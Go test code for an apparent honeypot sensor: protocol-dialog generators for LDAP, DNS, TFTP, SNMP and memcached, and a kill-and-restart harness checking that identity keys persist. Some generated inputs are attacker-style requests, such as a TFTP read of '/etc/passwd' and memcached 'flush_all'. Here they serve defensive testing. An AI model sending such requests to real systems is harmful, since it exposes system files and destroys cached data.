			d.Cmds = append(d.Cmds, Cmd{Name: "search", Wire: LDAPSearch(id, "dc=example,dc=com", attr, val), Exp: []Expect{ev("ldap.request-type", "search", "ldap.message-id", ids)}})
		case "modify":
			d.Cmds = append(d.Cmds, Cmd{Name: "modify", Wire: LDAPModify(id, dn), Exp: []Expect{ev("ldap.request-type", "modify", "ldap.message-id", ids)}})
		case "add":
			d.Cmds = append(d.Cmds, Cmd{Name: "add", Wire: LDAPAdd(id, dn), Exp: []Expect{ev("ldap.request-type", "add", "ldap.message-id", ids)}})
		case "delete":
			d.Cmds = append(d.Cmds, Cmd{Name: "delete", Wire: LDAPDelete(id, dn), Exp: []Expect{ev("ldap.request-type", "delete", "ldap.message-id", ids)}})
		case "modifydn":
			d.Cmds = append(d.Cmds, Cmd{Name: "modifydn", Wire: LDAPModifyDN(id, dn, "cn=new"), Exp: []Expect{ev("ldap.request-type", "modify-dn", "ldap.message-id", ids)}})
		case "compare":
			d.Cmds = append(d.Cmds, Cmd{Name: "compare", Wire: LDAPCompare(id, dn, "cn", "x"), Exp: []Expect{ev("ldap.request-type", "compare", "ldap.message-id", ids)}})
		case "abandon":
			d.Cmds = append(d.Cmds, Cmd{Name: "abandon", Wire: LDAPAbandon(id, id-1), Exp: []Expect{ev("ldap.request-type", "abandon", "ldap.message-id", ids)}})
		case "unbind":
			d.Cmds = append(d.Cmds, Cmd{Name: "unbind", Wire: LDAPUnbind(id), Exp: []Expect{ev("ldap.request-type", "unbind", "ldap.message-id", ids)}, Ends: true})
		}
	}
	return d
}

// ---- UDP

func dnsQuery(id uint16, name string, qtype uint16) []byte {
	var b bytes.Buffer
	binary.Write(&b, binary.BigEndian, id)
	b.Write([]byte{0x01, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0})
	for _, l := range strings.Split(name, ".") {
		if l == "" {
			continue
		}
		b.WriteByte(byte(len(l)))
		b.WriteString(l)
	}
	b.WriteByte(0)
	binary.Write(&b, binary.BigEndian, qtype)
	binary.Write(&b, binary.BigEndian, uint16(1))
	return b.Bytes()
}

func oidBER(arcs []int) []byte {
	b := []byte{byte(arcs[0]*40 + arcs[1])}
	for _, a := range arcs[2:] {
		var enc []byte
		enc = append(enc, byte(a&0x7f))
		for a >>= 7; a > 0; a >>= 7 {
			enc = append([]byte{byte(a&0x7f) | 0x80}, enc...)
		}
		b = append(b, enc...)
	}
	return tlv(0x06, b)
}

func oidStr(arcs []int) string {
	s := make([]string, len(arcs))
	for i, a := range arcs {
		s[i] = fmt.Sprint(a)
	}
	return strings.Join(s, ".")
}

// SNMPGet builds an SNMPv1 message (exported for C10).
func SNMPGet(community string, pduTag byte, reqID int, oids [][]int) []byte {
	var vbs []byte
	for _, o := range oids {
		vbs = append(vbs, tlv(0x30, oidBER(o), tlv(0x05))...)
	}
	pdu := tlv(pduTag, berInt(reqID), berInt(0), berInt(0), tlv(0x30, vbs))
	return tlv(0x30, berInt(0), berStr(community), pdu)
}

// GenTFTPUpload: a write request followed by its DATA blocks (at most 4 datagrams: the
// limiter's burst per source), ending with a short - possibly empty - block.
func GenTFTPUpload(t *rapid.T) Dialog {
	d := Dialog{Service: "tftp", UDP: true, SameSource: true}
	fn := rapid.SampledFrom([]string{"up.bin", "x/y.cfg", "a"}).Draw(t, "file")
	d.Cmds = append(d.Cmds, Cmd{Name: "wrq", Wire: append([]byte{0, 2}, []byte(fn+"\x00octet\x00")...), Exp: []Expect{{Match: map[string]string{"type": "tftp-write", "tftp.filename": fn, "tftp.mode": "octet"}, Trim0: []string{"tftp.filename", "tftp.mode"}}}})
	full := rapid.IntRange(0, 2).Draw(t, "fullblocks")
	last := rapid.SampledFrom([]int{0, 0, 1, 100, 511}).Draw(t, "lastlen")
	var content []byte
	for b := 1; b <= full+1; b++ {
		n := 512
		if b == full+1 {
			n = last
		}
		blk := make([]byte, n)
		for i := range blk {
			blk[i] = byte(b*31 + i)
		}
		content = append(content, blk...)
		c := Cmd{Name: fmt.Sprintf("data%d", n), Wire: append([]byte{0, 3, 0, byte(b)}, blk...)}
		if b == full+1 {
			c.Exp = []Expect{{Match: map[string]string{"type": "tftp-write-file", "tftp.filename": fn, "tftp.file-hex": fmt.Sprintf("%x", content)}, Trim0: []string{"tftp.filename"}}}
		}
		d.Cmds = append(d.Cmds, c)
	}
	return d
}

// GenUDP: one dialog = 1..4 independent datagrams for the service.
func GenUDP(t *rapid.T, service string) Dialog {
	d := Dialog{Service: service, UDP: true}
	n := rapid.IntRange(1, 4).Draw(t, "ndgram")
	for i := 0; i < n; i++ {
		switch service {
		case "dns":
			id := uint16(rapid.IntRange(0, 65535).Draw(t, "id"))
			name := rapid.SampledFrom([]string{"example.org", "a.b.c.d.example.net", "x", "version.bind"}).Draw(t, "qname")
			d.Cmds = append(d.Cmds, Cmd{Name: "query", Wire: dnsQuery(id, name, uint16(rapid.SampledFrom([]int{1, 28, 255, 16}).Draw(t, "qtype"))), Exp: []Expect{ev("category", "dns", "dns.id", fmt.Sprint(id), "dns.opcode", "0")}})
		case "tftp":
			op := rapid.SampledFrom([]string{"rrq", "wrq"}).Draw(t, "op")
			fn := rapid.SampledFrom([]string{"boot.bin", "/etc/passwd", "a", "config/router.cfg"}).Draw(t, "file")
			mode := rapid.SampledFrom([]string{"octet", "netascii"}).Draw(t, "mode")
			code := byte(1)
			typ := "tftp-read"
			if op == "wrq" {
				code, typ = 2, "tftp-write"
			}
			w := append([]byte{0, code}, []byte(fn+"\x00"+mode+"\x00")...)
			d.Cmds = append(d.Cmds, Cmd{Name: op, Wire: w, Exp: []Expect{{Match: map[string]string{"type": typ, "tftp.filename": fn, "tftp.mode": mode}, Trim0: []string{"tftp.filename", "tftp.mode"}}}})
		case "snmp":
			comm := rapid.SampledFrom([]string{"public", "private", "", "c0mmunity"}).Draw(t, "community")
			tag := rapid.SampledFrom([]byte{0xa0, 0xa1, 0xa3}).Draw(t, "pdu")
			typ := map[byte]string{0xa0: "get-request", 0xa1: "get-next-request", 0xa3: "set-request"}[tag]
			no := rapid.IntRange(1, 3).Draw(t, "noids")
			var oids [][]int
			var strs []string
			for k := 0; k < no; k++ {
				o := rapid.SampledFrom([][]int{{1, 3, 6, 1, 2, 1, 1, 1, 0}, {1, 3, 6, 1, 2, 1, 1, 5, 0}, {1, 3, 6, 1, 4, 1, 2021, 4, 3, 0}, {1, 3, 6, 1, 2, 1, 25, 1, 1, 0}}).Draw(t, "oid")
				oids = append(oids, o)
				strs = append(strs, oidStr(o))
			}
			d.Cmds = append(d.Cmds, Cmd{Name: typ, Wire: SNMPGet(comm, tag, rapid.IntRange(1, 100000).Draw(t, "reqid"), oids), Exp: []Expect{{Match: map[string]string{"type": typ, "snmp.community": comm, "snmp.oids": strings.Join(strs, ","), "snmp.version": "0"}, OIDs: []string{"snmp.oids"}}}})
		case "memcached":
			hdr := []byte{0, byte(rapid.IntRange(0, 255).Draw(t, "reqid")), 0, 0, 0, 1, 0, 0}
			nc := rapid.IntRange(1, 3).Draw(t, "nlines")
			var w []byte
			var exp []Expect
			w = append(w, hdr...)
			for k := 0; k < nc; k++ {
				l := rapid.SampledFrom([]string{"stats", "get a", "version", "flush_all", "stats items"}).Draw(t, "mcline")
				w = append(w, []byte(l+"\r\n")...)
				exp = append(exp, ev("type", "memcached-command", "memcached.command", l, "protocol", "udp"))
			}
			d.Cmds = append(d.Cmds, Cmd{Name: "mc", Wire: w, Exp: exp})
		case "counterstrike":
			q := rapid.SampledFrom([]byte{0x54, 0x55, 0x56, 0x57, 0x69}).Draw(t, "query")
			name := map[byte]string{0x54: "a2s_info", 0x55: "a2s_player", 0x56: "a2s_rules", 0x57: "a2s_serverquery_challenge", 0x69: "a2s_ping"}[q]
			w := append([]byte{0xff, 0xff, 0xff, 0xff, q}, []byte(rapid.SampledFrom([]string{"Source Engine Query\x00", "\xff\xff\xff\xff", ""}).Draw(t, "cspayload"))...)
			e := ev("category", "counterstrike", "counterstrike.query", name)
			e.PayloadFrom, e.PayloadFull = w, true
			d.Cmds = append(d.Cmds, Cmd{Name: name, Wire: w, Exp: []Expect{e}})
		}
	}
	return d
}

// TCPServices / UDPServices are the grammars C04 quantifies over.
var TCPServices = []string{"ftp", "smtp", "redis", "memcached", "telnet", "http", "elasticsearch", "eos", "ethereum", "docker", "cwmp", "ldap"}
var UDPServices = []string{"dns", "tftp", "snmp", "memcached", "counterstrike"}

func GenTCP(t *rapid.T, service string) Dialog {
	switch service {
	case "ftp":
		return GenFTP(t, true)
	case "smtp":
		return GenSMTP(t)
	case "redis":
		return GenRedis(t)
	case "memcached":
		return GenMemcachedTCP(t)
	case "telnet":
		return GenTelnet(t)
	case "http":
		return GenHTTP(t)
	case "ldap":
		return GenLDAP(t)
	default:
		return GenOneShotHTTP(t, service)
	}
}
