package c18

import (
	"bufio"
	"bytes"
	"crypto/x509"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
	"pgregory.net/rapid"

	"verif/vlib"
)

const prop = "C18"

func TestMain(m *testing.M) {
	if spec := os.Getenv("VERIF_C18_CHILD"); spec != "" {
		childMain(spec) // never returns
		return
	}
	vlib.Main(m, prop)
}

// ---------------------------------------------------------------- case model

// runT is one process start on the data directory.
type runT struct {
	SSH   string `json:"ssh,omitempty"` // "", "ssh-simulator", "ssh-auth", "ssh-proxy", "ssh-jail"
	FTP   bool   `json:"ftp,omitempty"`
	SMTP  bool   `json:"smtp,omitempty"`
	LDAP  bool   `json:"ldap,omitempty"`
	Agent bool   `json:"agent,omitempty"`
	// More: types of further service instances enabled in the same start (each on its own
	// port). Instances whose types persist the same item share it: the four ssh service
	// types all present the one ssh host key, two ftp (smtp, ldap) instances the one ftp
	// (smtp, ldap) certificate.
	More []string `json:"more,omitempty"`
	// Clients: how many clients observe each identity-bearing instance (and the agent
	// listener) of a completed run. 0/1: one client per instance, one instance after the
	// other. 2..6: that many clients per instance, all connected and taken to just before the
	// step in which the server uses the identity, then released together (see Spec.Clients).
	Clients int `json:"clients,omitempty"`
	// Kill < 0: the run completes and its identity is observed. Kill >= 0: the starting
	// process is SIGKILLed Kill/killSteps of the way through the estimated start-up time.
	Kill int `json:"kill"`
	// KillRec > 0: the starting process is SIGKILLed as soon as KillRec identity records (ssh
	// key, ftp/smtp/ldap key and certificate, agent key) are in the store's value log - a
	// kill aimed at an on-disk state instead of an instant.
	KillRec int `json:"kill_rec,omitempty"`
	// KillSibling: the starting process is SIGKILLed the moment a new file other than
	// "token" appears in the data directory (a writer's temporary file).
	KillSibling bool `json:"kill_sibling,omitempty"`
	// DelayMs is filled in when a case is recorded (the delay that was actually used) and
	// honoured on replay.
	DelayMs float64 `json:"delay_ms,omitempty"`
	// Overlap > 0 (completed runs only): the restart schedule is not sequential here. This
	// run's process stays alive - server running, store open - after its identity has been
	// observed, and the next Overlap runs of the history are started WHILE IT IS STILL ALIVE
	// (a new instance started before the old one has gone: rolling restart, impatient
	// supervisor, second container on the same volume). After them this process is ended as
	// End says and the history goes on sequentially.
	Overlap int `json:"overlap,omitempty"`
	// End: how the process of a run with Overlap > 0 goes away after the overlapping runs:
	// "exit" (told to stop; exits like every other run) or "kill" (SIGKILL).
	End string `json:"end,omitempty"`
}

func (r runT) killed() bool { return r.Kill >= 0 || r.KillRec > 0 || r.KillSibling }

func (r runT) set() string {
	var s []string
	if r.SSH != "" {
		s = append(s, r.SSH)
	}
	for _, x := range []struct {
		on bool
		n  string
	}{{r.FTP, "ftp"}, {r.SMTP, "smtp"}, {r.LDAP, "ldap"}, {r.Agent, "agent"}} {
		if x.on {
			s = append(s, x.n)
		}
	}
	s = append(s, r.More...)
	return strings.Join(s, "+")
}

func (r runT) instances() []instT { return instances(r.SSH, r.FTP, r.SMTP, r.LDAP, r.More) }

// obsT is one thing a completed run has to present: Name is the key in Identity.Items,
// Item the persisted identity item behind it.
type obsT struct{ Name, Type, Item string }

func (r runT) observed() []obsT {
	var out []obsT
	for _, in := range r.instances() {
		out = append(out, obsT{in.Name, in.Type, in.Item})
	}
	if r.Agent {
		out = append(out, obsT{"agent", "agent listener", "agent"})
	}
	return out
}

// shared: the items presented by two or more instances of this start.
func (r runT) shared() []string {
	n := map[string]int{}
	for _, in := range r.instances() {
		n[in.Item]++
	}
	var out []string
	for _, it := range []string{"ssh", "ftp", "smtp", "ldap"} {
		if n[it] > 1 {
			out = append(out, it)
		}
	}
	return out
}

// enabled: the identity items (not instances) this start presents.
func (r runT) enabled() []string {
	on := map[string]bool{"agent": r.Agent}
	for _, in := range r.instances() {
		on[in.Item] = true
	}
	var s []string
	for _, it := range []string{"ssh", "ftp", "smtp", "ldap", "agent"} {
		if on[it] {
			s = append(s, it)
		}
	}
	return s
}

// histCase is one restart history on one data directory.
type histCase struct {
	// TokenFile: state of <datadir>/token before the first run, as a kill during the first
	// write can leave it: "absent", or "content" with Token = "" (empty), a proper prefix of
	// a valid token, or a complete valid token.
	TokenFile string `json:"token_file"`
	Token     string `json:"token"`
	// DirExists: the data directory exists (empty) before the first run; forced when a token
	// file is placed.
	DirExists bool `json:"dir_exists"`
	// Siblings: files planted next to the token file before the first run - what a writer
	// that goes through a temporary file leaves when it is killed before the rename.
	Siblings []sibT `json:"siblings,omitempty"`
	// Snapshot: complete content of the data directory (relative path -> hex) as a killed
	// start left it; restored before the first run. Recorded by the state-aimed kill
	// enumerators so that a replay does not depend on hitting the instant again.
	Snapshot map[string]string `json:"snapshot,omitempty"`
	Origin   string            `json:"origin,omitempty"`
	Runs     []runT            `json:"runs"`
}

type sibT struct {
	Name    string `json:"name"`
	Content string `json:"content"`
}

const killSteps = 40

// maxReports bounds the replay files one enumerator writes per process.
const maxReports = 2

var tokenRe = regexp.MustCompile(`^[0-9a-v]{20}$`)

func (c histCase) crashState() bool {
	return (c.TokenFile == "content" && len(c.Token) < 20) || len(c.Siblings) > 0 || c.Snapshot != nil
}

func (c histCase) tokenLabel() string {
	switch {
	case c.TokenFile != "content":
		return "absent"
	case c.Token == "":
		return "empty"
	case len(c.Token) < 20:
		return "prefix"
	}
	return "complete"
}

// nontrivial: >=1 restart after a crash state (crash-state token file or killed start), or
// a restart with a changed service set, or a restart after a start in which several service
// instances shared one identity item, or a restart after a completed start whose identity
// items were used by several concurrent clients at once.
func (c histCase) nontrivial() bool {
	for i, r := range c.Runs {
		if i < len(c.Runs)-1 && len(r.shared()) > 0 {
			return true
		}
		if i < len(c.Runs)-1 && !r.killed() && r.Clients >= 2 && len(r.enabled()) > 0 {
			return true
		}
		if i < len(c.Runs)-1 && !r.killed() && r.Overlap > 0 {
			return true // a run is started while this one is still alive
		}
	}
	completed := 0
	tainted := c.crashState()
	for i, r := range c.Runs {
		if i > 0 && r.set() != c.Runs[i-1].set() {
			return true
		}
		if r.killed() {
			tainted = true
			continue
		}
		if tainted {
			return true
		}
		completed++
	}
	return false
}

// ---------------------------------------------------------------- child management

type childResult struct {
	Identity   *Identity
	SawBoot    bool
	SawStarted bool
	BootAt     time.Duration // since exec: child mode entered (runtime and package init done)
	StartedAt  time.Duration // since exec: every service constructed
	Killed     bool          // we sent SIGKILL (kill run)
	KilledAt   time.Duration
	Exit       string
	Fatal      string
	NewRecords []string // identity records that reached the store during this run (after a kill)
	Siblings   []string // files other than token / badger.db seen appearing in the data directory
	Output     string   // tail of stdout+stderr
	HarnessErr string   // could not exec etc.
}

type tailBuf struct {
	mu sync.Mutex
	b  []byte
}

func (t *tailBuf) Write(p []byte) (int, error) {
	t.mu.Lock()
	t.b = append(t.b, p...)
	if len(t.b) > 16384 {
		t.b = append([]byte(nil), t.b[len(t.b)-8192:]...)
	}
	t.mu.Unlock()
	return len(p), nil
}

func (t *tailBuf) String() string {
	t.mu.Lock()
	defer t.mu.Unlock()
	s := ansi.ReplaceAllString(string(t.b), "")
	if len(s) > 3000 {
		s = s[len(s)-3000:]
	}
	return s
}

var selfExe = func() string {
	p, err := os.Executable()
	if err != nil {
		return os.Args[0]
	}
	return p
}()

const childDeadline = 150 * time.Second

var recordNames = []string{"ssh.private-key", "ftp.pemkey", "ftp.pemcert", "smtp.pemkey", "smtp.pemcert", "ldap.pemkey", "ldap.pemcert", "agent.key"}

// diskRecords reports which identity records the store's value log holds (by name; the
// value log is append-only and holds keys in clear). Used to aim kills and to label the
// on-disk state a kill left behind - never as an oracle.
func diskRecords(dataDir string) map[string]bool {
	out := map[string]bool{}
	files, _ := filepath.Glob(filepath.Join(dataDir, "badger.db", "*.vlog"))
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		for _, n := range recordNames {
			if bytes.Contains(data, []byte(n)) {
				out[n] = true
			}
		}
	}
	return out
}

// diskLabel classifies the state of the data directory after a kill.
func diskLabel(dataDir string) string {
	if _, err := os.Stat(dataDir); err != nil {
		return "no-datadir"
	}
	if _, err := os.Stat(filepath.Join(dataDir, "badger.db", "MANIFEST")); err != nil {
		return "store-not-initialised"
	}
	tok, err := os.ReadFile(filepath.Join(dataDir, "token"))
	if err != nil {
		return "no-token"
	}
	if !tokenRe.Match(tok) {
		return "token-malformed"
	}
	recs := diskRecords(dataDir)
	for _, s := range []string{"ftp", "smtp", "ldap"} {
		if recs[s+".pemkey"] && !recs[s+".pemcert"] {
			return "key-without-certificate"
		}
		if !recs[s+".pemkey"] && recs[s+".pemcert"] {
			return "certificate-without-key"
		}
	}
	return fmt.Sprintf("records=%d", len(recs))
}

// killPlan says how a run ends.
type killPlan struct {
	delay   time.Duration // >= 0: SIGKILL after this delay
	rec     int           // > 0: SIGKILL when this many new identity records are in the store
	sibling bool          // SIGKILL when a new file other than token appears in the data directory
	watch   bool          // only record such files
}

var noKill = killPlan{delay: -1}

func names(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// watchRecords freezes the child (SIGSTOP) whenever the store's value log changed, looks
// at the records on disk while it is frozen and either kills it (target reached) or lets it
// continue. Every identity record is one write to the value log, so the child is looked at
// after each single store write.
func watchRecords(dataDir string, target int, before map[string]bool, proc *os.Process, stop chan struct{}, kill func()) {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	vlog := filepath.Join(dataDir, "badger.db", "000000.vlog")
	last := int64(-1)
	if fi, err := os.Stat(vlog); err == nil {
		last = fi.Size()
	}
	var st syscall.Stat_t
	for i := 0; ; i++ {
		if i&63 == 0 {
			select {
			case <-stop:
				return
			default:
			}
		}
		size := int64(-1)
		if syscall.Stat(vlog, &st) == nil {
			size = st.Size
		}
		if size == last {
			continue
		}
		last = size
		if size <= 0 {
			continue
		}
		proc.Signal(syscall.SIGSTOP)
		time.Sleep(150 * time.Microsecond) // every thread has to take the stop
		n := 0
		for k := range diskRecords(dataDir) {
			if !before[k] {
				n++
			}
		}
		if n >= target {
			kill()
			return
		}
		if syscall.Stat(vlog, &st) == nil {
			last = st.Size
		}
		proc.Signal(syscall.SIGCONT)
	}
}

// watchSiblings reports (and optionally kills on) files appearing in the data directory
// other than the token file and the store. inotify when available, else a tight readdir loop.
func watchSiblings(dataDir string, stop chan struct{}, seen func(string), kill func()) (ready, finished chan struct{}) {
	ready = make(chan struct{})
	finished = make(chan struct{})
	go func() {
		defer close(finished)
		runtime.LockOSThread()
		defer runtime.UnlockOSThread()
		interesting := func(n string) bool { return n != "" && n != "token" && n != "badger.db" }
		fd, err := syscall.InotifyInit1(syscall.IN_NONBLOCK | syscall.IN_CLOEXEC)
		if err == nil {
			defer syscall.Close(fd)
			_, err = syscall.InotifyAddWatch(fd, dataDir, syscall.IN_CREATE|syscall.IN_MOVED_TO)
		}
		if err == nil {
			close(ready)
			buf := make([]byte, 16384)
			stopping := false
			for i := 0; ; i++ {
				if i&63 == 0 && !stopping {
					select {
					case <-stop:
						stopping = true // the queue may still hold events: drain it once more
					default:
					}
				}
				n, rerr := syscall.Read(fd, buf)
				if rerr != nil || n <= 0 {
					if stopping {
						return
					}
					continue
				}
				for off := 0; off+16 <= n; {
					mask := binary.LittleEndian.Uint32(buf[off+4:])
					l := int(binary.LittleEndian.Uint32(buf[off+12:]))
					name := strings.TrimRight(string(buf[off+16:off+16+l]), "\x00")
					off += 16 + l
					if mask&syscall.IN_CREATE != 0 && interesting(name) {
						if kill != nil && !stopping {
							kill()
						}
						seen(name)
					}
				}
			}
		}
		// fallback: poll the directory
		known := map[string]bool{}
		if es, err := os.ReadDir(dataDir); err == nil {
			for _, e := range es {
				known[e.Name()] = true
			}
		}
		close(ready)
		for i := 0; ; i++ {
			if i&15 == 0 {
				select {
				case <-stop:
					return
				default:
				}
			}
			es, err := os.ReadDir(dataDir)
			if err != nil {
				continue
			}
			for _, e := range es {
				if !known[e.Name()] {
					known[e.Name()] = true
					if interesting(e.Name()) {
						if kill != nil {
							kill()
						}
						seen(e.Name())
					}
				}
			}
		}
	}()
	return ready, finished
}

// childCmd prepares (does not start) one sensor process on dataDir: the test binary in child
// mode, result pipe on fd 3 (pr is the parent's end, pw the child's - close it after Start).
func childCmd(dataDir string, r runT, hold bool) (cmd *exec.Cmd, out *tailBuf, pr, pw *os.File, err error) {
	spec := Spec{DataDir: dataDir, SSH: r.SSH, FTP: r.FTP, SMTP: r.SMTP, LDAP: r.LDAP, Agent: r.Agent, More: r.More, Clients: r.Clients, Hold: hold}
	sj, _ := json.Marshal(spec)
	pr, pw, err = os.Pipe()
	if err != nil {
		return
	}
	cmd = exec.Command(selfExe, "-test.run=^$")
	var env []string
	for _, e := range os.Environ() {
		if strings.HasPrefix(e, "VERIF_OUT=") || strings.HasPrefix(e, "VERIF_REPLAY=") || strings.HasPrefix(e, "VERIF_C18_CHILD=") || strings.HasPrefix(e, "VERIF_DATADIR=") || strings.HasPrefix(e, "TMPDIR=") {
			continue
		}
		env = append(env, e)
	}
	// whatever a sensor process puts into the temporary directory goes away with the history
	cmd.Env = append(env, "VERIF_C18_CHILD="+string(sj), "TMPDIR="+filepath.Dir(dataDir))
	out = &tailBuf{}
	cmd.Stdout = out
	cmd.Stderr = out
	cmd.ExtraFiles = []*os.File{pw}
	cmd.Dir = filepath.Dir(dataDir)
	return
}

// heldT is a sensor process that completed its start, was observed and is kept alive while
// further runs of the history are started on the same data directory.
type heldT struct {
	cmd      *exec.Cmd
	stdin    io.WriteCloser
	pr       *os.File
	waitDone chan struct{} // closed when the process has been reaped
	readDone chan struct{}
	ended    bool
}

// startHeld starts one sensor process that stays alive after reporting its identity. It
// returns when the identity has arrived or the process is gone.
func startHeld(dataDir string, r runT) (*heldT, childResult) {
	var res childResult
	cmd, out, pr, pw, err := childCmd(dataDir, r, true)
	if err != nil {
		res.HarnessErr = "pipe: " + err.Error()
		return nil, res
	}
	stdin, err := cmd.StdinPipe()
	if err != nil {
		pr.Close()
		pw.Close()
		res.HarnessErr = "pipe: " + err.Error()
		return nil, res
	}
	t0 := time.Now()
	if err := cmd.Start(); err != nil {
		pr.Close()
		pw.Close()
		res.HarnessErr = "exec: " + err.Error()
		return nil, res
	}
	pw.Close()
	h := &heldT{cmd: cmd, stdin: stdin, pr: pr, waitDone: make(chan struct{}), readDone: make(chan struct{})}
	var mu sync.Mutex
	gotIdentity := make(chan struct{})
	go func() {
		defer close(h.readDone)
		sc := bufio.NewScanner(pr)
		sc.Buffer(make([]byte, 1<<20), 1<<24)
		for sc.Scan() {
			var m childMsg
			if json.Unmarshal(sc.Bytes(), &m) != nil {
				continue
			}
			mu.Lock()
			switch m.Ev {
			case "boot":
				res.SawBoot = true
				res.BootAt = time.Since(t0)
			case "started":
				res.SawStarted = true
				res.StartedAt = time.Since(t0)
			case "identity":
				if res.Identity == nil {
					res.Identity = m.Identity
					close(gotIdentity)
				}
			case "fatal":
				res.Fatal = m.Msg
			}
			mu.Unlock()
		}
	}()
	var werr error
	go func() {
		werr = cmd.Wait()
		close(h.waitDone)
	}()
	guard := time.NewTimer(childDeadline)
	defer guard.Stop()
	select {
	case <-gotIdentity:
		mu.Lock()
		defer mu.Unlock()
		res.Output = out.String()
		return h, res
	case <-h.waitDone:
	case <-guard.C:
		cmd.Process.Signal(syscall.SIGKILL)
		<-h.waitDone
		mu.Lock()
		res.HarnessErr = fmt.Sprintf("child exceeded the harness deadline of %v", childDeadline)
		mu.Unlock()
	}
	// the process is gone
	<-h.readDone
	pr.Close()
	h.ended = true
	mu.Lock()
	defer mu.Unlock()
	if werr != nil {
		res.Exit = werr.Error()
	} else {
		res.Exit = "exit status 0"
	}
	res.Output = out.String()
	return nil, res
}

// end makes the held process go away - told to stop (its standard input is closed) or
// SIGKILLed - and returns once it has been reaped: whatever lock it held is released then.
// A process that does not follow the request in time is killed; that is nobody's verdict.
func (h *heldT) end(kill bool) {
	if h == nil || h.ended {
		return
	}
	h.ended = true
	if kill {
		h.cmd.Process.Signal(syscall.SIGKILL)
	} else {
		h.stdin.Close()
	}
	select {
	case <-h.waitDone:
	case <-time.After(childDeadline):
		h.cmd.Process.Signal(syscall.SIGKILL)
		<-h.waitDone
	}
	h.stdin.Close()
	<-h.readDone
	h.pr.Close()
}

// runChild starts one sensor process on dataDir and ends it as the plan says.
func runChild(dataDir string, r runT, plan killPlan) childResult {
	var res childResult
	cmd, out, pr, pw, err := childCmd(dataDir, r, false)
	if err != nil {
		res.HarnessErr = "pipe: " + err.Error()
		return res
	}
	defer pr.Close()
	before := diskRecords(dataDir)
	var mu sync.Mutex
	stopWatch := make(chan struct{})
	var watcherDone chan struct{}
	var t0 time.Time
	var pidA atomic.Int64
	// signals go through os.Process (pidfd-backed): never to a recycled pid
	doKill := func() {
		mu.Lock()
		res.Killed = true // before the signal: Wait may return at once
		res.KilledAt = time.Since(t0)
		mu.Unlock()
		cmd.Process.Signal(syscall.SIGKILL)
	}
	if plan.sibling || plan.watch {
		if err := os.MkdirAll(dataDir, 0755); err != nil {
			pw.Close()
			res.HarnessErr = err.Error()
			return res
		}
		var k func()
		if plan.sibling {
			k = func() {
				if pidA.Load() != 0 {
					doKill()
				}
			}
		}
		var ready chan struct{}
		ready, watcherDone = watchSiblings(dataDir, stopWatch, func(n string) {
			mu.Lock()
			res.Siblings = append(res.Siblings, n)
			mu.Unlock()
		}, k)
		<-ready
	}
	t0 = time.Now()
	if err := cmd.Start(); err != nil {
		pw.Close()
		close(stopWatch)
		res.HarnessErr = "exec: " + err.Error()
		return res
	}
	pidA.Store(int64(cmd.Process.Pid))
	pw.Close()
	var killTimer *time.Timer
	if plan.rec > 0 {
		go watchRecords(dataDir, plan.rec, before, cmd.Process, stopWatch, doKill)
	} else if plan.delay >= 0 {
		killTimer = time.AfterFunc(plan.delay, doKill)
	}
	guard := time.AfterFunc(childDeadline, func() {
		mu.Lock()
		res.HarnessErr = fmt.Sprintf("child exceeded the harness deadline of %v", childDeadline)
		mu.Unlock()
		cmd.Process.Signal(syscall.SIGKILL)
	})
	done := make(chan struct{})
	go func() {
		defer close(done)
		sc := bufio.NewScanner(pr)
		sc.Buffer(make([]byte, 1<<20), 1<<24)
		for sc.Scan() {
			var m childMsg
			if json.Unmarshal(sc.Bytes(), &m) != nil {
				continue
			}
			mu.Lock()
			switch m.Ev {
			case "boot":
				res.SawBoot = true
				res.BootAt = time.Since(t0)
			case "started":
				res.SawStarted = true
				res.StartedAt = time.Since(t0)
			case "identity":
				res.Identity = m.Identity
			case "fatal":
				res.Fatal = m.Msg
			}
			mu.Unlock()
		}
	}()
	werr := cmd.Wait()
	close(stopWatch)
	if watcherDone != nil {
		<-watcherDone
	}
	guard.Stop()
	if killTimer != nil {
		killTimer.Stop()
	}
	<-done
	mu.Lock()
	defer mu.Unlock()
	if werr != nil {
		res.Exit = werr.Error()
	} else {
		res.Exit = "exit status 0"
		res.Killed = false // it had finished by itself when the signal was sent
	}
	for k := range diskRecords(dataDir) {
		if !before[k] {
			res.NewRecords = append(res.NewRecords, k)
		}
	}
	sort.Strings(res.NewRecords)
	res.Output = out.String()
	return res
}

// snapshotDir / restoreDir: the complete content of a (small) data directory.
func snapshotDir(dir string) map[string]string {
	out := map[string]string{}
	filepath.Walk(dir, func(p string, info os.FileInfo, err error) error {
		if err != nil || p == dir {
			return nil
		}
		rel, _ := filepath.Rel(dir, p)
		if info.IsDir() {
			out[rel+"/"] = ""
			return nil
		}
		if info.Size() > 1<<20 {
			return nil
		}
		data, err := os.ReadFile(p)
		if err == nil {
			out[rel] = hex.EncodeToString(data)
		}
		return nil
	})
	return out
}

func restoreDir(dir string, snap map[string]string) error {
	if err := os.MkdirAll(dir, 0755); err != nil {
		return err
	}
	for _, rel := range names(func() map[string]bool {
		m := map[string]bool{}
		for k := range snap {
			m[k] = true
		}
		return m
	}()) {
		p := filepath.Join(dir, rel)
		if strings.HasSuffix(rel, "/") {
			if err := os.MkdirAll(p, 0700); err != nil {
				return err
			}
			continue
		}
		if err := os.MkdirAll(filepath.Dir(p), 0700); err != nil {
			return err
		}
		data, err := hex.DecodeString(snap[rel])
		if err != nil {
			return err
		}
		if err := os.WriteFile(p, data, 0600); err != nil {
			return err
		}
	}
	return nil
}

// ---------------------------------------------------------------- calibration

var (
	calOnce                   sync.Once
	calBoot, calCold, calWarm time.Duration
	calErr                    string
)

// calibrate measures the start-up time (exec until every service is constructed) of a first
// start that generates all four RSA keys, and of a start that finds everything persisted.
func calibrate() {
	calOnce.Do(func() {
		base, err := os.MkdirTemp("", "c18-cal-")
		if err != nil {
			calErr = err.Error()
			return
		}
		defer os.RemoveAll(base)
		all := runT{SSH: "ssh-simulator", FTP: true, SMTP: true, LDAP: true, Agent: true, Kill: -1}
		a := runChild(filepath.Join(base, "data"), all, noKill)
